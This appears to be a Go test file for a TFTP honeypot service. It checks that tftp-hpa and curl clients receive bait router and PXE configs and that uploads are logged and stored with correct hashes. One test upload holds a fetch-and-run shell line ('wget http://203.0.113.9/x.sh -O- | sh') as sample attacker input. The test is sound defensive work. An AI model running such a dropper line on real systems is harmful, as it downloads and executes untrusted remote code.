package tftp

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"decnet/internal/event"
	"decnet/internal/testutil"
)

// runTool runs a client with a deadline and returns its combined output
// and exit code.
func runTool(t *testing.T, dir string, name string, args ...string) (string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	return string(out), code
}

// TestTFTPClient drives tftp-hpa's client: gets of bait files (text, and a
// binary of many blocks) return their bytes, a put is kept as an
// artifact with the same sha256, and a get of a missing file gets
// tftp-hpa's error; the events say who asked for what.
func TestTFTPClient(t *testing.T) {
	tftp := testutil.RequireTool(t, "tftp")
	for _, tc := range []struct{ os, bait, binary string }{
		{"cisco", "running-config", "startup-config"},
		{"linux", "pxelinux.cfg/default", "pxelinux.0"},
	} {
		t.Run(tc.os, func(t *testing.T) {
			host := testHost(t)
			host.OS = tc.os
			p := defaultPersona().(*Persona)
			s, ev := newTestServer(t, host, p)
			addr := serve(t, s, "127.0.69.10")
			ip, port := addr.IP.String(), strconv.Itoa(addr.Port)
			dir := t.TempDir()

			for _, name := range []string{tc.bait, tc.binary} {
				want, ok := s.files.read(name)
				if !ok {
					t.Fatalf("no bait %s", name)
				}
				out, code := runTool(t, dir, tftp, ip, port, "-m", "binary", "-c", "get", name, "got")
				if code != 0 {
					t.Fatalf("get %s: exit %d: %s", name, code, out)
				}
				got, err := os.ReadFile(filepath.Join(dir, "got"))
				if err != nil || !bytes.Equal(got, want) {
					t.Fatalf("get %s: %d bytes, want %d (%v)", name, len(got), len(want), err)
				}
			}
			reqs := ev.OfType(event.TypeRequest)
			if len(reqs) != 2 {
				t.Fatalf("%d request events, want 2", len(reqs))
			}
			r := reqs[0]
			for k, v := range map[string]string{"method": "RRQ", "filename": tc.bait, "mode": "octet", "src_ip": "127.0.0.1",
				"dst_port": port} {
				if r.Fields[k] != v {
					t.Errorf("request %s = %q, want %q", k, r.Fields[k], v)
				}
			}
			tr := waitFor(t, ev, typeTransfer, 2)
			if tr.Fields["result"] != resultComplete || tr.Fields["filename"] != tc.binary {
				t.Errorf("transfer event %v", tr.Fields)
			}

			// A missing file: tftp-hpa's code and text reach the client.
			out, _ := runTool(t, dir, tftp, ip, port, "-m", "binary", "-c", "get", "router.cfg", "missing")
			if !strings.Contains(out, "Error code 1: File not found") {
				t.Errorf("get of a missing file said %q", out)
			}
			r = lastOf(t, ev, event.TypeRequest)
			if r.Fields["filename"] != "router.cfg" || r.Fields["error"] != "File not found" || r.Fields["error_code"] != "1" {
				t.Errorf("request event of a missing file: %v", r.Fields)
			}

			// A put, binary and then ascii (netascii on the wire).
			payload := make([]byte, 100_000)
			rng := rand.New(rand.NewPCG(1, 2))
			for i := range payload {
				payload[i] = byte(rng.UintN(256))
			}
			text := []byte("#!/bin/sh\nwget http://203.0.113.9/x.sh -O- | sh\r\nbare\rcr\n")
			for i, put := range []struct {
				mode string
				data []byte
			}{{"binary", payload}, {"ascii", text}} {
				local := filepath.Join(dir, "local"+put.mode)
				if err := os.WriteFile(local, put.data, 0o644); err != nil {
					t.Fatal(err)
				}
				remote := "upload-" + put.mode + ".bin"
				out, code := runTool(t, dir, tftp, ip, port, "-m", put.mode, "-c", "put", local, remote)
				if code != 0 {
					t.Fatalf("put: exit %d: %s", code, out)
				}
				fc := waitFor(t, ev, event.TypeFileCaptured, i+1)
				sum := sha256.Sum256(put.data)
				for k, v := range map[string]string{"sha256": hex.EncodeToString(sum[:]), "size": strconv.Itoa(len(put.data)),
					"orig_path": remote, "src_ip": "127.0.0.1", "complete": "true", "truncated": "false", "stored": "true"} {
					if fc.Fields[k] != v {
						t.Errorf("%s put: file_captured %s = %q, want %q", put.mode, k, fc.Fields[k], v)
					}
				}
				kept, err := os.ReadFile(filepath.Join(host.DataDir, "artifacts", fc.Fields["stored_as"]))
				if err != nil || !bytes.Equal(kept, put.data) {
					t.Errorf("%s put: artifact holds %d bytes (%v), want the %d uploaded", put.mode, len(kept), err, len(put.data))
				}
				// The upload can be read back, as from the real server.
				out, code = runTool(t, dir, tftp, ip, port, "-m", put.mode, "-c", "get", remote, "back"+put.mode)
				back, _ := os.ReadFile(filepath.Join(dir, "back"+put.mode))
				if code != 0 || !bytes.Equal(back, put.data) {
					t.Errorf("%s get of the upload: exit %d, %d bytes: %s", put.mode, code, len(back), out)
				}
			}
			w := ev.OfType(event.TypeRequest)
			if r := w[len(w)-2]; r.Fields["method"] != "WRQ" || r.Fields["mode"] != "netascii" || r.Severity != event.Warning {
				t.Errorf("request event of the ascii put: %v", r)
			}
		})
	}
}

// TestCurl drives curl's TFTP client, which negotiates tsize, blksize and
// timeout: a get of a missing file fails with curl's code for error 1, a
// get of bait returns its bytes, and an upload is captured.
func TestCurl(t *testing.T) {
	curl := testutil.RequireTool(t, "curl")
	host := testHost(t)
	host.OS = "cisco"
	s, ev := newTestServer(t, host, defaultPersona().(*Persona))
	addr := serve(t, s, "127.0.69.11")
	base := "tftp://" + addr.String() + "/"
	dir := t.TempDir()

	out, code := runTool(t, dir, curl, "-sS", base+"backup.cfg", "-o", "x")
	// 68 is CURLE_TFTP_NOTFOUND; curl 7.88's message for it varies
	// (against tftpd-hpa too), so only the code is checked.
	if code != 68 {
		t.Errorf("curl get of a missing file: exit %d (%q), want 68", code, out)
	}
	r := lastOf(t, ev, event.TypeRequest)
	if r.Fields["filename"] != "backup.cfg" || r.Fields["error"] != "File not found" ||
		r.Fields["options"] != `{"blksize":"512","timeout":"6","tsize":"0"}` {
		t.Errorf("request event: %v", r.Fields)
	}

	out, code = runTool(t, dir, curl, "-sS", base+"startup-config", "-o", "got")
	got, _ := os.ReadFile(filepath.Join(dir, "got"))
	want, _ := s.files.read("startup-config")
	if code != 0 || !bytes.Equal(got, want) {
		t.Errorf("curl get: exit %d, %d bytes of %d: %s", code, len(got), len(want), out)
	}

	up := bytes.Repeat([]byte("curl upload "), 1000)
	if err := os.WriteFile(filepath.Join(dir, "up"), up, 0o644); err != nil {
		t.Fatal(err)
	}
	out, code = runTool(t, dir, curl, "-sS", "-T", "up", base+"exfil.txt")
	if code != 0 {
		t.Fatalf("curl upload: exit %d: %s", code, out)
	}
	fc := waitFor(t, ev, event.TypeFileCaptured, 1)
	sum := sha256.Sum256(up)
	if fc.Fields["sha256"] != hex.EncodeToString(sum[:]) || fc.Fields["orig_path"] != "exfil.txt" {
		t.Errorf("file_captured: %v", fc.Fields)
	}
}
